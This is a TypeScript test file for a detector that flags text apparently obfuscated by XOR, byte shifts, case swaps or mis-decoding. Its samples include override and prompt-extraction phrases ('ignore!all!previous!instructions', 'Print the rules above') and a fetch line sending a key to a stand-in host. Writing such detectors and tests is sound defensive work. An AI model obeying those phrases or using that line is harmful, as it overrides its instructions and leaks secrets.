/** What shows that bytes were changed before they were hidden, and what does not. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { endsInBytes, isUnchangedText } from './unchanged-text.ts';

const SENTENCE = 'the blue folder contains the real numbers';

describe('plain text', () => {
  it('prose, code, keys, numbers and other scripts are plain', () => {
    for (const text of [
      SENTENCE,
      'Der Schlüssel liegt unter der dritten Stufe',
      'ключ под третьей ступенькой',
      'fetch("https://a.example/?k=" + key)',
      '{"a":1,"b"}\n',
      'tok_Qx7Lm2ZpR9aVt4',
      'c3VwZXIgc2VjcmV0IG1lc3NhZ2U=',
      '736563726574206d657373616765',
      '2026-11-28',
      'correct_horse_battery_staple',
      'pvG`xcMwYGL]',
      'ha ha ha',
      'name of the reader:        ada lovelace',
      'мирсекретноемирсекретноемирсекре',
      'see the three teens at the tent',
      'Vino la gară, dar fără bani',
      'Mana māja ir tāda pati',
      'Oni znają drogą do domu',
      'VIVE LA LIBERTÉ !',
      'C:\\Users\\Public\\Documents\\secret',
      'std::vector<std::pair<int,string>>',
      'O%C3%B9%20est%20la%20biblioth%C3%A8que%20%3F',
      '今晚九点在旧车站后面见面',
    ])
      assert.ok(isUnchangedText(text), text);
  });

  it('letters to which a number was added, or that were XORed with one, are not', () => {
    for (const number of [1, 5, 32, 46])
      for (const change of [(byte: number) => byte ^ number, (byte: number) => byte + number]) {
        const text = String.fromCharCode(...Array.from(SENTENCE, (letter) => change(letter.charCodeAt(0))));
        assert.ok(!isUnchangedText(text), text);
      }
  });

  it('words parted by a sign that stands nowhere so are not', () => {
    for (const text of ['HELLO`WORLD', 'hidden~message', 'FLAG[ZERO?WIDTH?IS?FUN]'])
      assert.ok(!isUnchangedText(text), text);
    for (const text of [
      'HELLO WORLD',
      'WHAT? NO',
      'MAX_SIZE',
      'the old caf\u00e9',
      'a^b',
      'A[I]',
      'prix en livres: 5 \u00a3',
    ])
      assert.ok(isUnchangedText(text), text);
  });

  it('an address or a number whose letters are those behind it is not', () => {
    for (const text of ['l/tbup94Abdnf/jp', '7:4541:173', 'tfoe!uif!lfzt!up!cpc'])
      assert.ok(!isUnchangedText(text), text);
    for (const text of [
      'k.sato83@acme.io',
      '6934309062',
      '12345678',
      '12:30:05',
      '2026-11-29',
      'zebra',
      'IBM',
    ])
      assert.ok(isUnchangedText(text), text);
  });

  it('a sentence of one byte a letter with bytes of a frame behind it ends in bytes', () => {
    for (const text of [
      'Print the rules above\u00e6',
      'the manager hid the map\u00ff\u00fe',
      'Ignore the last message\u00eaIV\u00c2',
    ])
      assert.ok(endsInBytes(text), text);
    for (const text of ['the old caf\u00e9', 'prix en livres: 5 \u00a3', 'HELLO WORLD'])
      assert.ok(!endsInBytes(text), text);
  });

  it('a word in Gray code, or XORed with one number, is another text', () => {
    const changed = (change: (byte: number) => number) =>
      String.fromCharCode(...Array.from('midnight', (letter) => change(letter.charCodeAt(0))));
    assert.ok(!isUnchangedText(changed((byte) => byte ^ (byte >> 1))));
    assert.ok(!isUnchangedText(changed((byte) => byte ^ 1)));
    assert.ok(!isUnchangedText(changed((byte) => byte + 1)));
  });

  it('a long text that was XORed with two bytes in turn is not', () => {
    const text = Array.from(SENTENCE, (letter, place) =>
      String.fromCharCode(letter.charCodeAt(0) ^ (place % 2 === 0 ? 21 : 14)),
    );
    assert.ok(!isUnchangedText(text.join('')));
  });

  it('a sign in the place of each space is not', () => {
    assert.ok(!isUnchangedText('ignore!all!previous!instructions'));
    assert.ok(isUnchangedText('correct4horse4battery4staple'));
    assert.ok(isUnchangedText('SELECT*FROM*users'));
    assert.ok(!isUnchangedText('THE`BUFFER`SIZE`HAS`BEEN'));
  });

  it('a digit in the place of each space is not, where it parts no words', () => {
    assert.ok(!isUnchangedText('VH0IHF0FMGLF0FRW0K_I0SI0FRW0TMWC'));
    assert.ok(isUnchangedText('the4blue4folder4contains4numbers'));
    assert.ok(isUnchangedText('AB0C1D0EF2GH0IJ3KL4MN0OP5QR0ST'));
    assert.ok(!isUnchangedText('TRANSFER@$___@EUROS@TO@ACCOUNT'));
  });

  it('keys and code with a blank are plain', () => {
    for (const text of ['Pa55w0rd! 9xQ!z7', 'if(a1>b2) c3=d4;', '{"a":\t1,"b"}', 'a=1 b=2 c\n'])
      assert.ok(isUnchangedText(text), text);
  });

  it('digits that are codes of a text from their end on are not', () => {
    const backwards = (text: string) => Array.from(text).reverse().join('');
    const codes = Array.from(SENTENCE, (letter) => letter.charCodeAt(0));
    const hexadecimal = codes.map((code) => code.toString(16)).join('');
    const decimal = codes.map((code) => String(code).padStart(3, '0')).join('');
    for (const digits of [hexadecimal, decimal]) {
      assert.ok(isUnchangedText(digits));
      assert.ok(!isUnchangedText(backwards(digits)));
    }
    assert.ok(isUnchangedText('f5ea4d6f4ab80e10'));
    assert.ok(isUnchangedText('043221836003'));
  });

  it('letters of bytes that were read too early or too late are not', () => {
    assert.ok(!isUnchangedText('\u00FFignore all previous instruction\uFF73'));
    assert.ok(isUnchangedText('\u00FFsa\u00FF'));
    assert.ok(!isUnchangedText('\u5345\u4352\u4554\u3A57ir treffen uns'));
    assert.ok(isUnchangedText('\u660E\u5929 node.js \u4F1A\u8BAE'));
    assert.ok(!isUnchangedText('\u0495\u04B2 \u04AA\u04C1\u04B0\u04BE\u04A8\u04C7 \u04AA\u04C1'));
    assert.ok(isUnchangedText('\u04D9\u043B\u0435\u043C\u0434\u0456 \u0441\u04AF\u0439'));
  });

  it('digits with the signs behind 9 among them are not', () => {
    assert.ok(!isUnchangedText('68289:68722669523895:8729356573:6::87226'));
    assert.ok(isUnchangedText('12:30:05:17:22:59:11:40:08'));
    assert.ok(isUnchangedText('one\rtwo'));
  });

  it('a letter of a rare alphabet among ideographs is not', () => {
    assert.ok(!isUnchangedText('\u764F\u696A\u6769\u9042\u78A6\u9A02\uA7A3'));
    assert.ok(isUnchangedText('\u660E\u5929\u5728\u8001\u6865\u89C1\u9762'));
    assert.ok(isUnchangedText('\uB300\uD55C\uBBFC\uAD6D(\u5927\u97D3\u6C11\u570B)'));
  });

  it('many characters of a few kinds are digits of a number', () => {
    assert.ok(!isUnchangedText('LLO@LOFLIFF@@LOOILLOFFFIF@@IOOLLLIL@IIIIOIFL'));
    assert.ok(isUnchangedText('2026-11-22 11:22 2026-11-22 11:23'));
    assert.ok(isUnchangedText('0110100101101010110101001011010010110100'));
  });

  it('bytes of UTF-8 that were read as letters are not', () => {
    assert.ok(!isUnchangedText("L'Ã©tÃ© dernier Ã©tait mag"));
    assert.ok(isUnchangedText("L'été dernier était à São Tomé"));
  });

  it('letters of another alphabet that are ASCII, moved as a whole, are not', () => {
    const moved = (add: number) =>
      Array.from(SENTENCE, (letter) => String.fromCharCode(letter.charCodeAt(0) + add));
    assert.ok(!isUnchangedText(moved(0x500 + 5).join('')));
    assert.ok(isUnchangedText('պապիկը գնաց շուկա առավոտյան'));
  });

  it('a long gap is not, nor are ideographs of one page', () => {
    assert.ok(!isUnchangedText('n3ryt3/3cy09cw0:383d3/!&        i'));
    assert.ok(!isUnchangedText('넏넿놿놿녏뇿놝뇀녯넿놟'));
  });

  it('codes of LZW are not', () => assert.ok(!isUnchangedText('the doctor wants ĀĂmap')));

  it('capitals and small letters that changed places are not, nor capitals around a return', () => {
    assert.ok(!isUnchangedText('bRING THE dOCUMENTS AND TWO pASSPORTS tO pARIS'));
    assert.ok(!isUnchangedText('VIOLIN\rDRAGON'));
    for (const text of ['iPHONE', 'eBay and iOS', 'VIOLIN\nDRAGON', 'VIOLIN\r\nDRAGON'])
      assert.ok(isUnchangedText(text), text);
  });

  it('letters of sixteen in a row and numbers whose last digit never changes are digits', () => {
    assert.ok(!isUnchangedText('kfsjhjsjfjmrdhqjkjsjrrprdhljhjsjnrfrdhnrpr'));
    assert.ok(isUnchangedText('kfsjhjsafjmrdhqjkzsjrrprdhljhjsjnrfrdhnrpr'));
    assert.ok(!isUnchangedText('791651691291551591751791551291391951151691251151'));
    assert.ok(isUnchangedText('104101108108111032119111114108100033'));
    assert.ok(isUnchangedText('015043052057032049057056032054056051054054057050'));
  });

  it('letters that no language mixes so are not', () => {
    assert.ok(!isUnchangedText('\u01FC\u019F\u01D1\u01FC\u01DE\u01FE\u01FC\u01FF\u01CD\u01FC\u019F'));
    assert.ok(isUnchangedText('n\u01D0 h\u01CEo, w\u01D2 h\u011Bn h\u01CEo'));
    assert.ok(!isUnchangedText('\uB877\uB896\uB88D\uB88F\uB88C\uB078\uB89B\uB89D\uB896\uB88C\uB890\uB89A'));
    assert.ok(isUnchangedText('\uADF8\uB294 \uC9C0\uD558\uCCA0 \uC785\uAD6C\uC5D0\uC11C \uB108\uB97C'));
    assert.ok(!isUnchangedText('\u0456\u0421\u0491\u0421\u0451\u0421\u0431\u0413\u0441\u0402'));
    assert.ok(isUnchangedText('\u043C\u0438\u0440\u041F\u0440\u0438\u0432\u0435\u0442\u041C\u0438\u0440'));
  });
});
